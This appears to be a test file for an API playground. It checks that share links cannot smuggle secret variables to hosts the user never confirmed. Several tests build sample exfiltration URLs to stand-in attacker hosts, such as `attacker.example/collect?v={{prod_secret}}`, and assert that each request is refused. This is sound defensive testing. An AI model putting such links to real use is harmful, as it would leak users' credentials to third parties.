/**
 * Issue 13, finding 2: `{{variables}}` in a share link exfiltrated secret variables (a test URL
 * `https://other.example/collect?v={{prod_secret}}`, Apply, Send). A real Playground over memory
 * storage and a canned fetch: settings from a link carry the hosts the person confirmed, and a
 * secret variable is never substituted into a request to any other host.
 */
import { describe, expect, it } from 'vitest';
import type { Variable } from '../../../src/lib/config/variables';
import type { BrowserPort } from '../../../src/lib/state/browser';
import { Playground } from '../../../src/lib/state/playground.svelte';
import { memoryBackend, openStorage, type PlaygroundStorage } from '../../../src/lib/store/storage';
import { cannedFetch, jsonResponse, type CannedFetch } from '../support/canned-fetch';
import { quietBrowser } from '../support/browser';

const SECRET = 'prodsecret42';
const APP = 'http://127.0.0.1:4173/';

function shareFragment(auth: Record<string, unknown>, testRequest: Record<string, unknown>): string {
  return `#share=${Buffer.from(JSON.stringify({ v: 1, auth: { presetId: null, ...auth }, testRequest })).toString('base64url')}`;
}

const browserAt = (hash: string): BrowserPort => quietBrowser(APP + hash);

const variables = (values: Record<string, string>): Variable[] => [
  { name: 'prod_secret', value: SECRET, secret: true },
  ...Object.entries(values).map(([name, value]) => ({ name, value, secret: false })),
];

interface Opened {
  pg: Playground;
  fetch: CannedFetch;
  storage: PlaygroundStorage;
}

/** A playground opened from `hash` with the active environment's `values`; the link not applied yet. */
async function openedFrom(hash: string, values: Record<string, string> = {}, storage?: PlaygroundStorage): Promise<Opened> {
  const fetch = cannedFetch((request) => (request.url.includes('/token') ? jsonResponse({ access_token: 'at-1', token_type: 'Bearer' }) : jsonResponse({ ok: true })));
  storage ??= await openStorage(memoryBackend());
  const pg = new Playground({ storage, fetch, browser: browserAt(hash), redirectUri: APP });
  pg.scope.useVariables(variables(values), null);
  await pg.links.receiveShare();
  return { pg, fetch, storage };
}

/** Apply, then the API key the person types (links never carry it). */
async function apply(pg: Playground): Promise<void> {
  await pg.links.share!.apply();
  pg.auth.apiKey.value = 'typed-key';
}

const carriesSecret = (fetch: CannedFetch) => fetch.calls.some((call) => `${call.url} ${JSON.stringify([...call.headers])} ${call.body}`.includes(SECRET));

describe('share links and secret variables (issue 13, finding 2)', () => {
  it('the confirmation names the host of a test URL written `http:host/…` (it said “no host given”)', async () => {
    const { pg } = await openedFrom(shareFragment({ authType: 'api_key' }, { method: 'GET', url: 'http:api.attacker.example/collect?v={{prod_secret}}' }));
    const incoming = pg.links.share!.incoming!;
    expect(incoming.hosts).toContain('api.attacker.example');
    expect(incoming.variables).toEqual(['prod_secret']);
    expect(incoming.secretVariables).toEqual(['prod_secret']);
  });

  it('a secret variable in a shared host is never substituted: refused, nothing sent', async () => {
    const { pg, fetch } = await openedFrom(shareFragment({ authType: 'api_key' }, { method: 'GET', url: 'https://{{prod_secret}}.attacker.example/collect' }));
    await apply(pg);
    await pg.sendTestRequest();
    expect(pg.test.error?.code).toBe('unconfirmed_host');
    expect(pg.test.error?.message).toContain('{{prod_secret}}');
    expect(pg.test.error?.message).toContain('{{prod_secret}}.attacker.example');
    expect(pg.test.error?.message).not.toContain(SECRET);
    expect(fetch.calls).toHaveLength(0);
  });

  it('goes to the host the confirmation listed, and not to another one a variable points at later', async () => {
    const link = shareFragment({ authType: 'api_key' }, { method: 'GET', url: '{{api}}/collect', headers: [{ key: 'X-Collect', value: '{{prod_secret}}' }] });
    const { pg, fetch } = await openedFrom(link, { api: 'https://api.example.com' });
    expect(pg.links.share!.incoming!.hosts).toEqual(['api.example.com']);
    await apply(pg);
    await pg.sendTestRequest();
    expect(pg.test.error).toBeNull();
    expect(fetch.calls[0]!.url).toBe('https://api.example.com/collect');
    expect(fetch.calls[0]!.headers.get('x-collect')).toBe(SECRET);

    pg.scope.useVariables(variables({ api: 'https://attacker.example' }), null);
    await pg.sendTestRequest();
    expect(pg.test.error?.code).toBe('unconfirmed_host');
    expect(pg.test.error?.message).toContain('attacker.example');
    expect(fetch.calls).toHaveLength(1);
  });

  it('a host the person types after Apply is theirs: the secret variable goes there', async () => {
    const { pg, fetch } = await openedFrom(shareFragment({ authType: 'api_key' }, { method: 'GET', url: 'https://{{prod_secret}}.attacker.example/collect' }));
    await apply(pg);
    pg.testRequest.url = 'https://mine.example/me?k={{prod_secret}}';
    await pg.sendTestRequest();
    expect(pg.test.error).toBeNull();
    expect(fetch.calls[0]!.url).toBe(`https://mine.example/me?k=${SECRET}`);
  });

  it('settings the person made use secret variables anywhere, as before', async () => {
    const { pg, fetch } = await openedFrom('');
    pg.auth.authType = 'api_key';
    pg.auth.apiKey.value = '{{prod_secret}}';
    pg.testRequest.url = 'https://{{prod_secret}}.mine.example/me';
    await pg.sendTestRequest();
    expect(pg.test.error).toBeNull();
    expect(fetch.calls[0]!.url).toBe(`https://${SECRET}.mine.example/me`);
    expect(fetch.calls[0]!.headers.get('x-api-key')).toBe(SECRET);
  });

  it('the confirmed hosts stay with the settings after a reload (the draft)', async () => {
    const { pg, storage } = await openedFrom(shareFragment({ authType: 'api_key' }, { method: 'GET', url: 'https://{{prod_secret}}.attacker.example/collect' }));
    await apply(pg);
    const again = await openedFrom('', {}, storage);
    await again.pg.load();
    again.pg.scope.useVariables(variables({}), null);
    again.pg.auth.apiKey.value = 'typed-key';
    expect(again.pg.testRequest.url).toBe('https://{{prod_secret}}.attacker.example/collect');
    await again.pg.sendTestRequest();
    expect(again.pg.test.error?.code).toBe('unconfirmed_host');
    expect(carriesSecret(again.fetch)).toBe(false);
  });

  it('applied without being shown (an embed applies its link), a link confirms no host', async () => {
    const { pg, fetch } = await openedFrom(shareFragment({ authType: 'api_key' }, { method: 'GET', url: 'https://other.example/collect?v={{prod_secret}}' }));
    await pg.links.share!.apply({ seen: false });
    pg.auth.apiKey.value = 'typed-key';
    await pg.sendTestRequest();
    expect(pg.test.error?.code).toBe('unconfirmed_host');
    expect(fetch.calls).toHaveLength(0);
  });

  it('saved as a credential, the settings keep their confirmed hosts: opened again, still refused', async () => {
    const fetch = cannedFetch(() => jsonResponse({ ok: true }));
    const storage = await openStorage(memoryBackend());
    const link = shareFragment({ authType: 'api_key' }, { method: 'GET', url: 'https://{{prod_secret}}.attacker.example/collect' });
    const pg = new Playground({ storage, fetch, browser: browserAt(link), redirectUri: APP });
    await pg.load();
    pg.scope.useVariables(variables({}), null);
    await apply(pg);
    pg.library!.name = 'Shared';
    await pg.library!.save();
    pg.selectPreset('local-demo');
    await pg.library!.openCredential(pg.library!.credentials[0]!.id);
    expect(pg.testRequest.url).toBe('https://{{prod_secret}}.attacker.example/collect');
    await pg.sendTestRequest();
    expect(pg.test.error?.code).toBe('unconfirmed_host');
    expect(fetch.calls).toHaveLength(0);
  });

  it('Get token: a secret variable in the token request goes only to the confirmed token host', async () => {
    const link = shareFragment(
      { authType: 'oauth2', oauth2: { grantType: 'client_credentials', tokenUrl: 'https://{{tenant}}.auth.example/token', clientId: 'c', clientAuth: 'none', extraParams: [{ key: 'audience', value: '{{prod_secret}}' }] } },
      { method: 'GET', url: 'https://api.example.com/me' },
    );
    const { pg, fetch } = await openedFrom(link, { tenant: 'acme' });
    expect(pg.links.share!.incoming!.hosts).toEqual(['acme.auth.example', 'api.example.com']);
    await pg.links.share!.apply();
    await pg.getToken();
    expect(pg.attempt.error).toBeNull();
    expect(fetch.calls[0]!.url).toBe('https://acme.auth.example/token');

    pg.scope.useVariables(variables({ tenant: 'evil' }), null);
    await pg.getToken();
    expect(pg.attempt.error?.code).toBe('unconfirmed_host');
    expect(pg.attempt.error?.message).toContain('evil.auth.example');
    expect(fetch.calls).toHaveLength(1);
  });
});
